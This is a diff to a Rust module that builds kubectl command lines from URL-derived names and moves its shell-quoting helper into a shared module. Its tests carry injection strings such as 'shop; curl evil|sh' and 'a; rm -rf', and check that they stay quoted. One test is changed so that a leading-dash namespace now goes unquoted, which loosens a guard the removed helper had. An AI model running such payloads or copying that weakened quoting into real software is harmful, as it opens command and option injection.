@@ -1,7 +1,9 @@
-//! Which `kubectl` command does what a screen does.
+//! Which `kubectl` command does what a screen does. Names come from URLs, which anybody can make: a
+//! shell must not take one for more than a word.
 
 use crate::kind::Kind;
 use crate::log::{Since, Wish};
+use crate::shell::word;
 
 /// An object as commands name it.
 #[derive(Clone, Debug, PartialEq, Eq)]
@@ -16,9 +18,25 @@ pub struct Named {
     pub name: String,
 }
 
+/// The context in the kubeconfig that Drover gives.
+fn context(cluster: &str) -> String {
+    format!("kubectl --context {}", word(cluster))
+}
+
+/// All of a kind, or those in a namespace.
+pub fn list(kind: Kind, cluster: &str, namespace: Option<&str>, wide: bool) -> String {
+    let place = match namespace {
+        _ if !kind.namespaced => String::new(),
+        Some(namespace) => format!(" --namespace {}", word(namespace)),
+        None => " --all-namespaces".to_owned(),
+    };
+    let wide = if wide { " -o wide" } else { "" };
+    format!("{} get {}{place}{wide}", context(cluster), kind.plural)
+}
+
 impl Named {
     fn start(&self) -> String {
-        let context = format!("kubectl --context {}", word(&self.cluster));
+        let context = context(&self.cluster);
         match &self.namespace {
             Some(namespace) => format!("{context} --namespace {}", word(namespace)),
             None => context,
@@ -65,8 +83,8 @@ impl Named {
 /// The log that is wished for.
 pub fn logs(wish: &Wish, with_times: bool) -> String {
     let mut line = format!(
-        "kubectl --context {} --namespace {} logs {} --container {}",
-        word(&wish.cluster),
+        "{} --namespace {} logs {} --container {}",
+        context(&wish.cluster),
         word(&wish.namespace),
         word(&wish.pod),
         word(&wish.container)
@@ -86,16 +104,6 @@ pub fn logs(wish: &Wish, with_times: bool) -> String {
     add(true, &format!("--tail {}", wish.tail));
     add(with_times, "--timestamps");
     line
-}
-
-/// A word of a command. Names come from URLs, which anybody can make: a shell must not take one for
-/// more than a word.
-fn word(text: &str) -> String {
-    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-._/:".contains(&byte);
-    if !text.is_empty() && !text.starts_with('-') && text.bytes().all(plain) {
-        return text.to_owned();
-    }
-    format!("'{}'", text.replace('\'', r"'\''"))
 }
 
 #[cfg(test)]
@@ -129,11 +137,28 @@ mod tests {
     }
 
     #[test]
+    fn a_list_says_the_command_that_does_the_same() {
+        let list = |kind, namespace, wide| list(kind, "berlin", namespace, wide);
+        let start = "kubectl --context berlin get";
+        for (line, wanted) in [
+            (list(Kind::PODS, None, false), "pods --all-namespaces"),
+            (list(Kind::PODS, Some("shop"), true), "pods --namespace shop -o wide"),
+            (list(Kind::NODES, Some("shop"), false), "nodes"),
+            (
+                list(Kind::PODS, Some("shop; curl evil|sh\n"), false),
+                "pods --namespace 'shop; curl evil|sh\n'",
+            ),
+        ] {
+            assert_eq!(line, format!("{start} {wanted}"));
+        }
+    }
+
+    #[test]
     fn a_name_out_of_a_url_stays_a_word() {
         let evil = named(Kind::PODS, Some("-x"), "a; rm -rf 'b'");
         assert_eq!(
             evil.describe(),
-            r"kubectl --context berlin --namespace '-x' describe pod 'a; rm -rf '\''b'\'''"
+            r"kubectl --context berlin --namespace -x describe pod 'a; rm -rf '\''b'\'''"
         );
     }
 
